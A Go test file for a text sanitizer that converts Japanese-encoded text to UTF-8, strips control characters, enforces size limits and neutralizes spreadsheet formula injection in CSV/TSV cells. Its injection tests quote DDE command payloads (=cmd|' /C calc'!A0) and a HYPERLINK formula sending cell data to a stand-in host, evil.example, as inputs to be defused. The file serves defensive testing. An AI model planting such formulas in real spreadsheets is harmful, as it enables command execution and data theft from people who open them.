package text

import (
	"bytes"
	"context"
	"errors"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/text/encoding/japanese"

	"github.com/mugai-project/mugai/sanitizer/charset"
)

func rewrite(t testing.TB, in []byte, opts Options) (string, Stats, error) {
	t.Helper()
	var out bytes.Buffer
	st, err := Rewrite(context.Background(), bytes.NewReader(in), &out, opts)
	if st.BytesOut != int64(out.Len()) {
		t.Errorf("BytesOut %d, wrote %d", st.BytesOut, out.Len())
	}
	return out.String(), st, err
}

func TestRewriteCharsets(t *testing.T) {
	text := greeting + "\r\n2行目\r\n"
	tests := []struct {
		name string
		in   []byte
		cs   charset.Charset
	}{
		{"UTF-8", []byte(text), charset.UTF8},
		{"Shift_JIS", encode(t, japanese.ShiftJIS, text), charset.ShiftJIS},
		{"EUC-JP", encode(t, japanese.EUCJP, text), charset.EUCJP},
		{"ISO-2022-JP", []byte(greetingISO2022JP + "\r\n2\x1b$B9TL\\\x1b(B\r\n"), charset.ISO2022JP},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, st, err := rewrite(t, tt.in, Options{})
			if err != nil {
				t.Fatal(err)
			}
			if st.Charset != tt.cs {
				t.Errorf("charset %q, want %q", st.Charset, tt.cs)
			}
			if out != text {
				t.Errorf("got %q, want %q", out, text)
			}
			if st.Newline != "CRLF" || st.Lines != 2 {
				t.Errorf("newline %q lines %d", st.Newline, st.Lines)
			}
		})
	}
}

// TestRewriteLateJapanese: the first 64 KiB are charset.ASCII, Japanese comes later;
// it must not become U+FFFD.
func TestRewriteLateJapanese(t *testing.T) {
	head := strings.Repeat("12345,67890,ABCDE\r\n", 5000) // 95 KB of charset.ASCII
	tail := "99999,山田 太郎,ﾔﾏﾀﾞ ﾀﾛｳ①\r\n"
	tests := []struct {
		name string
		enc  []byte
		want charset.Charset
	}{
		{"Shift_JIS", encode(t, japanese.ShiftJIS, head+tail), charset.ShiftJIS},
		{"EUC-JP", encode(t, japanese.EUCJP, head+tail), charset.EUCJP},
		{"UTF-8", []byte(head + tail), charset.UTF8},
		{"ISO-2022-JP", encode(t, japanese.ISO2022JP, head+tail), charset.ISO2022JP},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if cs := charset.Sniff(tt.enc[:64<<10]); cs != charset.ASCII {
				t.Fatalf("first 64 KiB sniffed as %q", cs)
			}
			out, st, err := rewrite(t, tt.enc, Options{Format: FormatCSV})
			if err != nil {
				t.Fatal(err)
			}
			if out != head+tail {
				t.Errorf("tail decoded as %q", out[len(out)-min(len(out), 60):])
			}
			if st.Charset != tt.want || st.InvalidReplaced != 0 {
				t.Errorf("charset %q, replaced %d", st.Charset, st.InvalidReplaced)
			}
		})
	}
	// Binary after an charset.ASCII start is refused.
	if _, _, err := rewrite(t, append([]byte(head), "\x00\x01\x02\xff\xfe"...), Options{}); !errors.Is(err, charset.ErrNotText) {
		t.Errorf("binary tail: err = %v", err)
	}
}

func TestRewriteKeepsLF(t *testing.T) {
	out, st, err := rewrite(t, []byte("一\n二\n"), Options{})
	if err != nil || out != "一\n二\n" || st.Newline != "LF" {
		t.Fatalf("%q %+v %v", out, st, err)
	}
}

func TestRewriteRemovesControls(t *testing.T) {
	in := []byte("a\x00b\x01c\tD\x1b[31mE\x7f\u0085F\x0c\r\n")
	out, st, err := rewrite(t, in, Options{Charset: charset.UTF8})
	if err != nil {
		t.Fatal(err)
	}
	if want := "abc\tD[31mEF\r\n"; out != want {
		t.Errorf("got %q, want %q", out, want)
	}
	if st.ControlsRemoved != 6 {
		t.Errorf("ControlsRemoved %d, want 6", st.ControlsRemoved)
	}
}

func TestRewriteInvalidReplaced(t *testing.T) {
	in := append(encode(t, japanese.ShiftJIS, "請求書"), 0x82, 0xFF, '\n')
	out, st, err := rewrite(t, in, Options{Charset: charset.ShiftJIS})
	if err != nil {
		t.Fatal(err)
	}
	if !utf8.ValidString(out) || !strings.HasPrefix(out, "請求書\uFFFD") {
		t.Errorf("got %q", out)
	}
	if st.InvalidReplaced < 1 {
		t.Errorf("InvalidReplaced %d", st.InvalidReplaced)
	}
	out, st, err = rewrite(t, []byte("ok\xC3(\xFF\n"), Options{Charset: charset.UTF8})
	if err != nil || out != "ok\uFFFD(\uFFFD\n" || st.InvalidReplaced != 2 {
		t.Errorf("%q %+v %v", out, st, err)
	}
}

func TestRewriteNotTextRefused(t *testing.T) {
	if _, _, err := rewrite(t, []byte("MZ\x90\x00\x03\x00\x00\x00"), Options{}); !errors.Is(err, charset.ErrNotText) {
		t.Errorf("err = %v, want charset.ErrNotText", err)
	}
}

func TestRewriteLimits(t *testing.T) {
	var le *LimitError
	_, _, err := rewrite(t, bytes.Repeat([]byte("a"), 100), Options{MaxBytes: 99})
	if !errors.As(err, &le) || le.Limit != "input bytes" {
		t.Errorf("input limit: err = %v", err)
	}
	if _, _, err := rewrite(t, bytes.Repeat([]byte("a"), 100), Options{MaxBytes: 100}); err != nil {
		t.Errorf("exactly MaxBytes: %v", err)
	}
	_, _, err = rewrite(t, []byte("short\n"+strings.Repeat("あ", 40)+"\n"), Options{MaxLineBytes: 100})
	if !errors.As(err, &le) || le.Limit != "line bytes" {
		t.Errorf("line limit: err = %v", err)
	}
	_, _, err = rewrite(t, []byte("a,\""+strings.Repeat("x", 200)+"\"\n"), Options{Format: FormatCSV, MaxLineBytes: 100})
	if !errors.As(err, &le) {
		t.Errorf("CSV line limit: err = %v", err)
	}
}

func TestRewriteBOM(t *testing.T) {
	out, st, err := rewrite(t, []byte("a,b\r\n"), Options{Format: FormatCSV, BOM: true})
	if err != nil || out != "\uFEFFa,b\r\n" || !st.BOMWritten {
		t.Errorf("%q %+v %v", out, st, err)
	}
	// An input BOM is not doubled.
	out, _, err = rewrite(t, []byte("\xEF\xBB\xBFa,b\r\n"), Options{Format: FormatCSV, BOM: true})
	if err != nil || out != "\uFEFFa,b\r\n" {
		t.Errorf("%q %v", out, err)
	}
}

// TestCSVInjection follows the OWASP CSV Injection examples.
func TestCSVInjection(t *testing.T) {
	tests := []struct {
		name, cell, want string
	}{
		{"DDE cmd", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"at SUM DDE", `@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"plus formula", `+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`},
		{"minus formula", `-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"HYPERLINK", `=HYPERLINK("http://evil.example?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example?x="&A1,"Click")`},
		{"leading tab", "\t=1+1", "'\t=1+1"},
		{"leading CR", "\r=1+1", "'\r=1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width plus", "＋1", "'＋1"},
		{"full-width minus", "－1", "'－1"},
		{"full-width at", "＠SUM(A1)", "'＠SUM(A1)"},
		{"phone number kept", "+81-3-1234-5678", "+81-3-1234-5678"},
		{"phone number with spaces kept", "+81 48 000 0000", "+81 48 000 0000"},
		{"phone number with area code kept", "+1 (555) 123-4567", "+1 (555) 123-4567"},
		{"time zone offset kept", "+09:00", "+09:00"},
		{"signed date kept", "-2026/04/01", "-2026/04/01"},
		{"space thousands kept", "-1 234 567", "-1 234 567"},
		{"percent kept", "+12.5%", "+12.5%"},
		{"lone plus", "+", "'+"},
		{"phone-like with a function", "+81-3-1234-5678+SUM(A1)", "'+81-3-1234-5678+SUM(A1)"},
		{"phone-like with DDE", "+81|cmd", "'+81|cmd"},
		{"arithmetic on a cell", "-1+A1", "'-1+A1"},
		{"percent then formula", "-5%+cmd|' /C calc'!A0", "'-5%+cmd|' /C calc'!A0"},
		{"lone minus", "-", "'-"},
		{"negative integer kept", "-123", "-123"},
		{"positive kept", "+42", "+42"},
		{"negative decimal kept", "-1,234.50", "-1,234.50"},
		{"exponent kept", "-1.5e-3", "-1.5e-3"},
		{"plain text kept", "東京都", "東京都"},
		{"equals inside kept", "a=b", "a=b"},
		{"empty kept", "", ""},
		{"bad thousands", "-1,23", "'-1,23"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, changed := Neutralize(tt.cell)
			if got != tt.want || changed != (tt.want != tt.cell) {
				t.Errorf("Neutralize(%q) = %q, %v, want %q", tt.cell, got, changed, tt.want)
			}
		})
	}
}

func TestRewriteCSVInjection(t *testing.T) {
	in := "名前,式,電話\r\n" +
		"山田,=cmd|' /C calc'!A0,+81-3-1234-5678\r\n" +
		"\"鈴木, 花子\",@SUM(1+1)*cmd|' /C calc'!A0,-123\r\n" +
		"\"改行\r\nあり\",\"=1+\"\"2\"\"\",－1\r\n"
	sjis := encode(t, japanese.ShiftJIS, in)
	out, st, err := rewrite(t, sjis, Options{Format: FormatCSV, BOM: true})
	if err != nil {
		t.Fatal(err)
	}
	want := "\uFEFF名前,式,電話\r\n" +
		"山田,'=cmd|' /C calc'!A0,+81-3-1234-5678\r\n" +
		"\"鈴木, 花子\",'@SUM(1+1)*cmd|' /C calc'!A0,-123\r\n" +
		"\"改行\r\nあり\",\"'=1+\"\"2\"\"\",'－1\r\n"
	if out != want {
		t.Errorf("got\n%q\nwant\n%q", out, want)
	}
	if st.FormulasNeutralized != 4 || st.Records != 4 || st.Charset != charset.ShiftJIS {
		t.Errorf("stats %+v", st)
	}
	if want := []string{"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", `=1+"2"`}; !slices.Equal(st.FormulaExamples, want) {
		t.Errorf("examples %q, want the first %d changed cells %q", st.FormulaExamples, len(want), want)
	}
}

func TestRewriteTSV(t *testing.T) {
	in := "a\tb\n=1+1\t\"q\"\n"
	out, st, err := rewrite(t, []byte(in), Options{Format: FormatTSV})
	if err != nil {
		t.Fatal(err)
	}
	if want := "a\tb\n'=1+1\tq\n"; out != want {
		t.Errorf("got %q, want %q", out, want)
	}
	if st.FormulasNeutralized != 1 {
		t.Errorf("stats %+v", st)
	}
}

func TestCSVLike(t *testing.T) {
	tests := []struct {
		name  string
		in    string
		delim rune
		ok    bool
	}{
		{"comma", "a,b,c\n1,2,3\n4,5,6\n", ',', true},
		{"tab", "a\tb\n1\t2\n", '\t', true},
		{"semicolon", "a;b;c\r\n1;2;3\r\n", ';', true},
		{"quoted comma", "\"x,y\",b\n1,2\n", ',', true},
		{"cut last line", "a,b\n1,2\n3,", ',', true},
		{"prose", "これは文章です。\n句読点、だけ。\n", 0, false},
		{"one line", "a,b,c\n", 0, false},
		{"ragged", "a,b\n1,2,3,4\nx\n5\n", 0, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, ok := CSVLike([]byte(tt.in))
			if d != tt.delim || ok != tt.ok {
				t.Errorf("CSVLike = %q, %v, want %q, %v", d, ok, tt.delim, tt.ok)
			}
		})
	}
}

func FuzzRewrite(f *testing.F) {
	f.Add([]byte(greeting+"\r\n"), uint8(0))
	f.Add(encode(f, japanese.ShiftJIS, "名前,式\r\n山田,=cmd|' /C calc'!A0\r\n"), uint8(1))
	f.Add(encode(f, japanese.EUCJP, "a\tb\n=1\t2\n"), uint8(2))
	f.Add([]byte(greetingISO2022JP), uint8(0))
	f.Add([]byte("\"unterminated,\x00\x01\n"), uint8(1))
	formats := []Format{FormatPlain, FormatCSV, FormatTSV}
	f.Fuzz(func(t *testing.T, in []byte, fm uint8) {
		if d, ok := CSVLike(in); ok != (d != 0) {
			t.Fatalf("CSVLike = %q, %v", d, ok)
		}
		var out bytes.Buffer
		opts := Options{Format: formats[int(fm)%3], BOM: fm&4 != 0, MaxBytes: 1 << 20, MaxLineBytes: 4096}
		_, err := Rewrite(context.Background(), bytes.NewReader(in), &out, opts)
		if err != nil {
			return
		}
		b := out.Bytes()
		if !utf8.Valid(b) {
			t.Fatalf("output not UTF-8: %q", b)
		}
		for _, c := range b {
			if (c < 0x20 && c != '\t' && c != '\r' && c != '\n') || c == 0x7F {
				t.Fatalf("control %#x in output %q", c, b)
			}
		}
		// Bounded: every input byte yields at most 3 output bytes, plus the
		// BOM, quoting and apostrophes of CSV.
		if len(b) > 6*len(in)+16 {
			t.Fatalf("output %d bytes from %d", len(b), len(in))
		}
	})
}

func BenchmarkRewriteSJIS(b *testing.B) {
	line := "令和6年度　予算説明資料（案）,=SUM(A1:A9),-1234,東京都千代田区霞が関①㈱～\r\n"
	in := encode(b, japanese.ShiftJIS, strings.Repeat(line, 20000))
	for _, f := range []Format{FormatPlain, FormatCSV} {
		b.Run(string(f), func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			for b.Loop() {
				if _, err := Rewrite(context.Background(), bytes.NewReader(in), discard{}, Options{Charset: charset.ShiftJIS, Format: f}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

type discard struct{}

func (discard) Write(p []byte) (int, error) { return len(p), nil }
